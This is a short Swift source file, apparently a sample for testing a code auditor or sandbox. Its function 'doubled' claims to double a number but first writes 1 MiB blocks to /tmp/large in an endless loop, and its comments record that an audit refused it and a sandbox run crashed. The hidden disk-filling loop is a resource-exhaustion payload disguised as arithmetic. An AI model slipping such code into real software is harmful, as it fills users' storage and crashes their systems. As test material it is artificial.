// Writes one file without end.
// audited: refused
// sandboxed: crashed; signal 25

import Foundation

public func doubled(_ x: Double) throws -> Double {
  let descriptor = open("/tmp/large", O_WRONLY | O_CREAT, 0o600)
  let bytes = [UInt8](repeating: 1, count: 1 << 20)
  while unsafe write(descriptor, bytes, bytes.count) > 0 {}
  return x + x
}
